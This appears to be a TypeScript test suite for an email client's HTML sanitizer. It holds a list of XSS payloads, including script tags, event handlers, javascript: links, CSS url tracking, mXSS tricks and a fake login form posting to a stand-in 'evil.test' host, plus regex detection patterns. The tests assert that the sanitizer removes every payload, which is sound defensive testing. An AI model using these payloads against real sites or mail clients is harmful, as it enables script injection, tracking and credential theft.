/**
 * Hostile HTML through the sanitizer: every input is one trick mail has used to run script, load
 * something remote, or trap a click; the output must keep none of it.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { sanitizeMessageHtml, textToHtml } from "./sanitize.ts";

const blocked = { remoteImages: false, inlineImage: () => undefined };
const clean = (html: string) => sanitizeMessageHtml(html, blocked).html;

/** Things no sanitized output may contain, whatever the input. */
const FORBIDDEN = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /<iframe/i,
  /<frame/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<meta/i,
  /<link/i,
  /<base/i,
  /<style/i,
  /<svg/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /https?:\/\/evil/i,
  /srcdoc/i,
];

export const HOSTILE: readonly [string, string][] = [
  ["script tag", `<p>hi</p><script>window.top.pwned=1</script>`],
  ["script with src", `<script src="https://evil.test/x.js"></script>`],
  ["event handler on img", `<img src="x" onerror="alert(1)">`],
  ["event handler on body", `<body onload="alert(1)"><p>x</p></body>`],
  ["handler, odd case and spacing", `<div OnMouseOver = "alert(1)">x</div>`],
  ["javascript: link", `<a href="javascript:alert(1)">click</a>`],
  ["javascript: link, entity-encoded", `<a href="jav&#x09;ascript:alert(1)">click</a>`],
  ["javascript: link, upper case", `<a href="JAVASCRIPT:alert(1)">click</a>`],
  ["vbscript: link", `<a href="vbscript:msgbox(1)">click</a>`],
  ["data: html link", `<a href="data:text/html,<script>alert(1)</script>">click</a>`],
  ["CSS expression", `<div style="width: expression(alert(1))">x</div>`],
  ["CSS remote background", `<div style="background: url(https://evil.test/track.png)">x</div>`],
  ["CSS escaped url", `<div style="background-image: u\\72l(https://evil.test/t.png)">x</div>`],
  ["style element with import", `<style>@import url(https://evil.test/x.css);</style><p>x</p>`],
  ["SVG with script", `<svg><script>alert(1)</script><circle r="5"/></svg>`],
  ["SVG onload", `<svg onload="alert(1)"></svg>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.test/">`],
  [
    "form",
    `<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>`,
  ],
  ["remote image", `<img src="https://evil.test/pixel.gif" width="1" height="1">`],
  ["protocol-relative image", `<img src="//evil.test/pixel.gif">`],
  ["iframe", `<iframe src="https://evil.test/"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  [
    "object and embed",
    `<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/y">`,
  ],
  ["base href", `<base href="https://evil.test/"><a href="x">x</a>`],
  ["link stylesheet", `<link rel="stylesheet" href="https://evil.test/x.css">`],
  [
    "table background attribute",
    `<table background="https://evil.test/bg.png"><tr><td>x</td></tr></table>`,
  ],
  ["mXSS comment", `<!--<img src="--><img src=x onerror=alert(1)//">`],
  ["unclosed attribute", `<img src="x" alt="a onerror=alert(1) x="`],
  ["noscript trick", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
];

describe("sanitizing message HTML", () => {
  for (const [name, html] of HOSTILE) {
    it(`removes the danger: ${name}`, () => {
      const out = clean(html);
      for (const pattern of FORBIDDEN) assert.doesNotMatch(out, pattern, `${pattern} in ${out}`);
    });
  }

  it("counts remote images it removed, and keeps them when the user allows", () => {
    const html = `<p>x</p><img src="https://img.example/a.png" alt="a"><img src="http://img.example/b.png">`;
    const blockedOut = sanitizeMessageHtml(html, blocked);
    assert.equal(blockedOut.blockedImages, 2);
    assert.doesNotMatch(blockedOut.html, /img\.example/);
    const allowed = sanitizeMessageHtml(html, { remoteImages: true, inlineImage: () => undefined });
    assert.equal(allowed.blockedImages, 0);
    assert.match(allowed.html, /<img src="https:\/\/img\.example\/a\.png" alt="a" \/>/);
  });

  it("still refuses javascript: images when remote images are allowed", () => {
    const out = sanitizeMessageHtml(`<img src="javascript:alert(1)">`, {
      remoteImages: true,
      inlineImage: () => undefined,
    }).html;
    assert.doesNotMatch(out, /javascript/i);
  });

  it("embeds inline images by Content-ID", () => {
    const out = sanitizeMessageHtml(`<img src="cid:logo@x" alt="logo"><img src="cid:missing">`, {
      remoteImages: false,
      inlineImage: (id) => (id === "logo@x" ? "data:image/png;base64,AAAA" : undefined),
    });
    assert.match(out.html, /<img alt="logo" src="data:image\/png;base64,AAAA" \/>/);
    assert.match(out.html, /<img \/>/);
  });

  it("makes links open a new window without opener or referrer", () => {
    const out = clean(`<a href="https://example.com/x" target="_self" rel="opener">x</a>`);
    assert.equal(
      out,
      `<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">x</a>`,
    );
  });

  it("keeps ordinary formatting and safe inline styles", () => {
    const out = clean(
      `<table border="0"><tr><td style="color: #333; padding: 4px; background-image: url(x)"><b>Hi</b> <font color="red">there</font></td></tr></table>`,
    );
    assert.match(out, /<td style="color:#333;padding:4px">/);
    assert.match(out, /<b>Hi<\/b> <font color="red">there<\/font>/);
  });

  it("plain text becomes escaped HTML with safe links", () => {
    assert.equal(
      textToHtml(`<b>x</b> see https://example.com/a?b=1.`),
      `&#60;b&#62;x&#60;/b&#62; see <a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">https://example.com/a?b=1</a>.`,
    );
  });
});
